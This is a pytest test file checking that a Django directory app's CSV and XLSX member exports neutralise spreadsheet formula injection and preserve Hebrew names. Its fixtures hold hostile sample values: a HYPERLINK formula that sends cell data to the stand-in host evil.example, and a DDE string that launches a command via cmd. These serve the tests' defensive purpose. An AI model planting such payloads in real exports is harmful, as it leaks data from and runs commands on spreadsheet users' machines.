"""The manager's export of a network's members: safe against formula injection, Hebrew intact, read back."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from hevruta.directory.models import Visibility
from tests.factories import OrganizationFactory, PersonFactory, PositionFactory, member

DANGEROUS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1": "'+1",
    "-2": "'-2",
    "@x": "'@x",
    "\tTab": "'\tTab",
}


@pytest.fixture
def crafted(world):  # type: ignore[no-untyped-def]
    school = OrganizationFactory(name="=cmd|' /C calc'!A0")
    people = []
    for index, name in enumerate(DANGEROUS):
        person = PersonFactory(given_name=name, family_name=f"Family{index}", profile_visibility=Visibility.NETWORK)
        member(world.home, person)
        people.append(person)
    hebrew = PersonFactory(given_name="נֹעָה", family_name="כֹּהֵן", email="noa@example.org",
                           email_visibility=Visibility.NETWORK, profile_visibility=Visibility.NETWORK)  # fmt: skip
    member(world.home, hebrew)
    PositionFactory(person=hebrew, organization=school, title="רכזת מתמטיקה")
    return people


def _export(world, file_format: str) -> bytes:  # type: ignore[no-untyped-def]
    response = world.client("manager").get(reverse("directory:network_export", args=["home", file_format]))
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
def test_csv_export_defuses_formulas_and_keeps_hebrew(world, crafted):
    content = _export(world, "csv")
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM, so Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    given_names = {cells[0] for cells in rows[1:]}
    for expected in DANGEROUS.values():
        assert expected in given_names
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cells in rows for cell in cells)
    noa = next(cells for cells in rows if cells[2] == "noa@example.org")
    assert noa[:2] == ["נֹעָה", "כֹּהֵן"]
    # The positions cell starts with the title: the organization's name inside it cannot start a formula.
    assert noa[4] == "רכזת מתמטיקה, =cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_xlsx_export_defuses_formulas_and_keeps_hebrew(world, crafted):
    workbook = load_workbook(io.BytesIO(_export(world, "xlsx")))
    sheet = workbook.active
    assert sheet.title == "home"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)  # no formulas at all
    given_names = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    for expected in DANGEROUS.values():
        assert expected in given_names
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    noa = next(row for row in rows if row[2] == "noa@example.org")
    assert noa[:2] == ("נֹעָה", "כֹּהֵן")


@pytest.mark.django_db
def test_xlsx_export_survives_control_characters_in_names(world):
    # A name imported from a CSV can carry characters that XML (and so XLSX) cannot hold.
    odd = PersonFactory(given_name="Bell\x07", family_name="\x01=Start", profile_visibility=Visibility.NETWORK)
    member(world.home, odd)
    workbook = load_workbook(io.BytesIO(_export(world, "xlsx")))
    rows = list(workbook.active.iter_rows(min_row=2, values_only=True))
    assert ("Bell", "'=Start") in {row[:2] for row in rows}
    csv_rows = list(csv.reader(io.StringIO(_export(world, "csv").decode("utf-8-sig"))))
    assert ["Bell\x07", "\x01=Start"] in [row[:2] for row in csv_rows]
